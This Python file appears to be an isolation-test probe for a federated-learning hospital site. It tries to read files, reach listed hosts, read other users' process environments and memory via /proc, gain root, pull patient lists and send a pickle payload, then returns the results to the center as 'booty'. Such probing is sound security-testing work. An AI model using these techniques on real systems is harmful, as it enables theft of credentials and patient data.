"""The hospital's half: tries everything, and sends home what it got. Also ``python site.py PLAN``, which prints it.

Needs the installed package for the worker's own protocol, which a hostile center knows as well.
"""

import json
import os
import pickle
import socket
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

GOT_NOTHING = "nothing"


def attempts(plan: dict[str, Any]) -> dict[str, str]:
    """What came of each attempt: what was got, or the error that stood in the way."""
    tried: dict[str, Callable[[], str]] = {
        **{f"read {path}": lambda path=path: _read(Path(path)) for path in plan["files"]},
        **{f"list {path}": lambda path=path: _list(Path(path)) for path in plan["folders"]},
        **{f"write {path}": lambda path=path: _write(Path(path)) for path in plan["writable"]},
        **{f"connect {host}:{port}": lambda host=host, port=port: _connect(host, port) for host, port in plan["addresses"]},
        "datagram": lambda: _datagram(plan["elsewhere"]),
        "resolve": lambda: socket.gethostbyname("example.org"),
        "other processes": lambda: _other_processes(plan["canary"]),
        "become root": _become_root,
        **{f"ask {path} {what}": lambda path=path, what=what: _ask(path, what) for path, what in plan["questions"]},
    }
    booty = {}
    for name, attempt in tried.items():
        try:
            booty[name] = attempt()
        except BaseException as error:
            booty[name] = type(error).__name__
    return booty


def _read(path: Path) -> str:
    return path.read_text(errors="replace")[:200]


def _list(path: Path) -> str:
    return ", ".join(entry.name for entry in path.iterdir())


def _write(path: Path) -> str:
    with path.open("a") as file:
        file.write("\n")
    return "written"


def _connect(host: str, port: int) -> str:
    with socket.create_connection((host, port), timeout=3.0):
        return "connected"


def _datagram(host: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.sendto(b"booty", (host, 53))
    return "sent"


def _other_processes(canary: str) -> str:
    """Memory, environments and files of processes of other users, by way of /proc."""
    got = set()
    for entry in Path("/proc").glob("[0-9]*"):
        for attempt in (_environment, _memory, _command_line):
            try:
                if entry.stat().st_uid != os.geteuid() and (attempt is not _command_line or canary in attempt(entry)):
                    attempt(entry)
                    got.add(f"{attempt.__name__} of {entry.name}")
            except OSError:  # it may not, or the process has ended
                continue
        for link in ("root", "cwd", "fd"):
            try:
                if entry.stat().st_uid != os.geteuid() and [*(entry / link).iterdir()]:
                    got.add(f"{link} of {entry.name}")
            except OSError:
                continue
    return ", ".join(sorted(got)) or GOT_NOTHING


def _environment(process: Path) -> str:
    return (process / "environ").read_text(errors="replace")


def _memory(process: Path) -> str:
    with (process / "mem").open("rb"):
        return ""


def _command_line(process: Path) -> str:
    return (process / "cmdline").read_text(errors="replace")


def _become_root() -> str:
    os.setuid(0)
    return "root"


def _ask(path: str, what: str) -> str:
    """Ask a worker's socket for its name, for patients, with foreign bytes, or for a study that nobody there has approved."""
    import grpc

    with grpc.insecure_channel(f"unix:{path}", options=[("grpc.enable_http_proxy", 0)]) as channel:
        try:
            if what == "name":
                return bytes(channel.unary_unary("/consilium.Worker/Name")(b"", timeout=10)).decode()
            if what == "patients":
                return bytes(channel.unary_unary("/consilium.Worker/Patients")(b"", timeout=10)).decode()
            if what == "pickle":
                return str([*channel.stream_stream("/consilium.Worker/Handle")(iter([pickle.dumps(os.getcwd)]), timeout=10)])
        except grpc.RpcError as error:
            return str(error.code().name)
    return _ask_for_a_study(Path(path), what)


def _ask_for_a_study(path: Path, protocol_json: str) -> str:
    from client.serving import RemoteWorker, call
    from shared_model import messages

    site = RemoteWorker(path, timeout_s=10.0).name
    task = messages.Task(run="r", site=site, round=0, attempt="a", protocol_json=protocol_json, seed=0)
    request = messages.encode(messages.Message(messages.DescribeRequest(task)))
    record = messages.decode(call(path, request, timeout_s=30.0)).record
    return record.code.value if isinstance(record, messages.Failure) else type(record).__name__


if __name__ == "__main__":
    print(json.dumps(attempts(json.loads(Path(sys.argv[1]).read_text()))))
else:
    from flwr.app import ConfigRecord, Context, Message, RecordDict
    from flwr.clientapp import ClientApp

    app = ClientApp()

    @app.query("who")
    def who(message: Message, context: Context) -> Message:
        """Instead of telling the site's name."""
        plan = json.loads(str(message.content.config_records["plan"]["plan"]))
        booty = json.dumps(attempts(plan))
        return Message(RecordDict({"booty": ConfigRecord({"booty": booty})}), reply_to=message)
